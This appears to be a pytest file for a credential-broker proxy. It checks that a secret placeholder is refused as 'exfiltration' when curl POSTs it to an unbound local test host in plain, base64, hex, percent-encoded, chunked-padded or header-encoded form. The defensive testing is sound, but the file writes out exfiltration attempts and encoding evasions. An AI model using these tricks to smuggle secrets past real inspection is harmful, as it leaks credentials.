"""Placeholders in request bodies and re-encoded in headers, towards intercepted unbound hosts.

Real curl through a real broker to real HTTPS servers on 127.0.0.1: each
attempt is refused with `exfiltration`, the upstream receives nothing, and
the journal has the denial; a body without a placeholder still arrives whole.
"""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from corral.broker.config import (
    BrokerConfig,
    CredentialConfig,
    MitmConfig,
    RuleConfig,
    TlsConfig,
)
from corral.broker.credentials import new_placeholder
from corral.broker.mitm import CaFiles, create_ca

from .conftest import BrokerFactory, ServerFactory
from .testlib import Hit, Reply, ThrowawayCA, curl, header

pytestmark = pytest.mark.requires_curl

REAL = "ghp_REALsecretVALUE0123456789abcdefXYZ"
PLACEHOLDER = new_placeholder(bytes(range(16)))


def _echo(hit: Hit) -> Reply:
    return 200, [], f"{hit.method} {hit.path} {len(hit.body)}\n".encode()


def test_placeholder_in_a_body_or_reencoded_to_an_unbound_host_is_refused(
    servers: ServerFactory,
    brokers: BrokerFactory,
    test_ca: ThrowawayCA,
    tmp_path: Path,
) -> None:
    mitm: CaFiles = create_ca(tmp_path / "mitm")
    other = servers({"/": _echo}, tls=test_ca)
    cred = CredentialConfig(
        name="github",
        env="GH_TOKEN",
        value="env:REAL_GH",
        hosts=("secure.test",),
        placeholder=PLACEHOLDER,
    )
    config = BrokerConfig(
        # A method rule makes other.test intercepted: the broker sees its requests.
        rules=(
            RuleConfig(
                host="other.test", ports=(other.port,), methods=("POST",), allow_private=True
            ),
        ),
        resolver_overrides={"other.test": ("127.0.0.1",)},
        system_dns=False,
        upstream_tls=TlsConfig(ca_bundle=str(test_ca.ca_pem)),
        mitm=MitmConfig(ca_cert=str(mitm.cert), ca_key=str(mitm.key)),
        credentials=(cred,),
    )
    broker = brokers(config, environ={"REAL_GH": REAL})
    url = f"https://other.test:{other.port}"
    ph = PLACEHOLDER.encode()
    big = tmp_path / "big"
    big.write_bytes(b"a" * 300_000 + base64.b64encode(b"token=" + ph) + b"z" * 1000)
    attempts = {
        "/plain-body": ("--data-binary", f"t={PLACEHOLDER}"),
        "/b64-body": ("--data-binary", base64.b64encode(b"{'t': '" + ph + b"'}").decode()),
        "/hex-body": ("--data-binary", ph.hex()),
        "/pct-body": ("--data-binary", "".join(f"%{c:02x}" for c in ph)),
        "/chunked-big": ("-H", "Transfer-Encoding: chunked", "--data-binary", f"@{big}"),
        "/b64-header": ("-H", f"X-Data: {base64.urlsafe_b64encode(b'k' + ph).decode()}"),
    }
    for path, args in attempts.items():
        out = curl("--cacert", str(mitm.cert), "-i", "-X", "POST", *args, url + path,
                   proxy=broker.proxy)  # fmt: skip
        assert header(out.stdout, "X-Corral-Denied") == "exfiltration", (path, out.stdout)
    ok = curl("--cacert", str(mitm.cert), "-sS", "--data-binary", "x=" + "b" * 5000,
              url + "/fine", proxy=broker.proxy)  # fmt: skip
    assert ok.stdout == "POST /fine 5002\n", ok.stderr
    assert [h.path for h in other.hits] == ["/fine"]
    rows = broker.wait_rows(lambda rs: sum(r.rule == "exfiltration" for r in rs) >= 6)
    refused = sorted(r.target for r in rows if r.rule == "exfiltration" and r.decision == "deny")
    assert refused == sorted(f"POST {url}{p}" for p in attempts)
